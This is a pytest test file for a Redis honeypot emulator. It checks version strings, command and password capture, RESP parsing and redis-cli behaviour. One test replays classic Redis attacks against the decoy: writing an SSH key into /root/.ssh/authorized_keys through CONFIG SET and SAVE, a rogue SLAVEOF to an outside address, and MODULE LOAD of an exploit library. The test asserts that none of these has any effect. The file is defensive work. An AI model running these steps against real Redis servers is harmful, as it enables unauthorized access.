"""The redis emulator against redis-py, redis-cli and raw RESP/inline clients."""

from __future__ import annotations

import shutil
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import anyio
import pytest
import redis.asyncio as aioredis
from redis.asyncio.retry import Retry
from redis.backoff import NoBackoff
from redis.exceptions import AuthenticationError, ResponseError

from tests.integration.emulators.web_fixtures import CLIENT_TIMEOUT_S, Deployed, deploy

pytestmark = pytest.mark.anyio


@asynccontextmanager
async def client(env: Deployed, password: str | None = None) -> AsyncIterator[aioredis.Redis]:
    """A redis-py asyncio client for the decky, closed afterwards."""
    connection = aioredis.Redis(
        host=env.ip,
        port=env.ports["redis"],
        password=password,
        socket_timeout=CLIENT_TIMEOUT_S,
        socket_connect_timeout=CLIENT_TIMEOUT_S,
        retry=Retry(NoBackoff(), 0),  # an auth failure must surface at once, not after retries
    )
    try:
        yield connection
    finally:
        await connection.aclose()


async def raw_exchange(env: Deployed, payload: bytes, until: bytes) -> bytes:
    """Send raw bytes and read until `until` appears (or the server closes)."""
    received = b""
    with anyio.fail_after(CLIENT_TIMEOUT_S):
        stream = await anyio.connect_tcp(env.ip, env.ports["redis"])
        await stream.send(payload)
        while until not in received:
            try:
                received += await stream.receive()
            except anyio.EndOfStream:
                break
        await stream.aclose()
    return received


async def test_version_and_os_follow_the_distro(tmp_path: Path) -> None:
    """A Debian 12 decky reports bookworm's redis-server and kernel, as nmap reads them."""
    async with (
        deploy(tmp_path, "127.82.3.9", ("redis",), distro="debian-12") as env,
        client(env) as redis,
    ):
        info = await redis.info("server")
    assert (info["redis_version"], info["os"]) == ("7.0.15", "Linux 6.1.0-18-amd64 x86_64")


async def test_open_server_answers_commands_and_records_each(tmp_path: Path) -> None:
    """Without a password PING/SET/GET/KEYS/CONFIG GET work and each is a redis_command."""
    async with deploy(tmp_path, "127.82.3.1", ("redis",)) as env, client(env) as redis:
        assert await redis.ping() is True
        assert await redis.set("session:42", "alice") is True
        assert await redis.get("session:42") == b"alice"
        assert await redis.keys("session:*") == [b"session:42"]
        assert await redis.config_get("dir") == {"dir": "/var/lib/redis"}
        info = await redis.info("server")
        assert info["redis_version"] == "6.0.16"  # the decky is Ubuntu 22.04: its package
        assert info["os"] == "Linux 5.15.0-105-generic x86_64"
        await env.wait_for("redis", "redis_command", command="SET session:42 alice")
        await env.wait_for("redis", "redis_command", command="CONFIG GET dir")


async def test_password_gates_commands_and_auth_attempts_are_captured(tmp_path: Path) -> None:
    """With `password` set: NOAUTH before AUTH, WRONGPASS for a bad one, OK for the right one."""
    config = {"redis": {"password": "r3dis-Pr0d"}}
    async with deploy(tmp_path, "127.82.3.2", ("redis",), config) as env:
        async with client(env) as redis:
            with pytest.raises(AuthenticationError, match="must be called with the client already"):
                await redis.ping()
        async with client(env, "guess") as redis:
            with pytest.raises(AuthenticationError):
                await redis.ping()
        async with client(env, "r3dis-Pr0d") as redis:
            assert await redis.ping() is True
        failed = await env.wait_for("redis", "auth", password="guess")
        passed = await env.wait_for("redis", "auth", password="r3dis-Pr0d")
    assert (failed.fields["username"], failed.fields["result"]) == ("default", "failure")
    assert passed.fields["result"] == "success"


async def test_auth_without_configured_password_is_still_captured(tmp_path: Path) -> None:
    """AUTH on an open server errors like Redis does, and the tried password is recorded."""
    async with deploy(tmp_path, "127.82.3.3", ("redis",)) as env, client(env) as redis:
        with pytest.raises(AuthenticationError, match="without any password configured"):
            await redis.execute_command("AUTH", "letmein")
        with pytest.raises(AuthenticationError, match="invalid username-password pair"):
            await redis.execute_command("AUTH", "admin", "hunter2")
        legacy = await env.wait_for("redis", "auth", password="letmein")
        named = await env.wait_for("redis", "auth", username="admin")
    assert (legacy.fields["username"], legacy.fields["result"]) == ("default", "failure")
    assert named.fields["password"] == "hunter2"


async def test_classic_attacks_are_answered_without_side_effects(tmp_path: Path) -> None:
    """The authorized_keys write, rogue SLAVEOF and MODULE LOAD look plausible and do nothing."""
    marker = "ssh-rsa AAAAB3-decnet-test-marker attacker@evil"
    async with deploy(tmp_path, "127.82.3.4", ("redis",)) as env, client(env) as redis:
        assert await redis.config_set("dir", "/root/.ssh") is True
        assert await redis.config_set("dbfilename", "authorized_keys") is True
        await redis.set("crack", f"\n\n{marker}\n\n")
        assert await redis.save() is True
        assert await redis.config_get("dir") == {"dir": "/root/.ssh"}
        assert await redis.execute_command("SLAVEOF", "203.0.113.5", "8886") is True
        with pytest.raises(ResponseError, match="Error loading the extension"):
            await redis.execute_command("MODULE", "LOAD", "/tmp/exp.so")
        assert await redis.flushall() is True
        assert await redis.dbsize() == 0
        await env.wait_for("redis", "redis_command", command="SLAVEOF 203.0.113.5 8886")
        stored = await env.wait_for(
            "redis", "redis_command", command=f'SET crack "\\n\\n{marker}\\n\\n"'
        )
    assert stored.attacker_ip == "127.0.0.1"
    authorized = Path("/root/.ssh/authorized_keys")
    assert not authorized.exists() or marker not in authorized.read_text(errors="replace")


async def test_inline_and_pipelined_commands_get_one_reply_each(tmp_path: Path) -> None:
    """Inline commands (netcat style) and a pipelined batch are each answered in order."""
    async with deploy(tmp_path, "127.82.3.5", ("redis",)) as env:
        pipelined = (
            b"PING\r\n*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$1\r\nv\r\n*2\r\n$3\r\nGET\r\n$1\r\nk\r\n"
        )
        reply = await raw_exchange(env, pipelined, b"$1\r\nv\r\n")
        assert reply == b"+PONG\r\n+OK\r\n$1\r\nv\r\n"
        broken = await raw_exchange(env, b"*1\r\n+oops\r\n", b"\r\n")
        assert broken.startswith(b"-ERR Protocol error")


@pytest.mark.skipif(shutil.which("redis-cli") is None, reason="no `redis-cli` installed")
async def test_real_redis_cli_authenticates_and_runs_commands(tmp_path: Path) -> None:
    """`redis-cli -a` authenticates with RESP2 AUTH and prints real-looking replies."""
    config = {"redis": {"password": "cache-pass"}}
    async with deploy(tmp_path, "127.82.3.6", ("redis",), config) as env:
        command = ["redis-cli", "-h", env.ip, "-p", str(env.ports["redis"]), "--no-auth-warning"]
        with anyio.fail_after(CLIENT_TIMEOUT_S):
            result = await anyio.run_process([*command, "-a", "cache-pass", "CONFIG", "GET", "dir"])
            denied = await anyio.run_process([*command, "-a", "nope", "PING"], check=False)
        record = await env.wait_for("redis", "auth", password="nope")
    assert result.stdout == b"dir\n/var/lib/redis\n"
    assert b"WRONGPASS" in denied.stdout + denied.stderr
    assert record.fields["result"] == "failure"
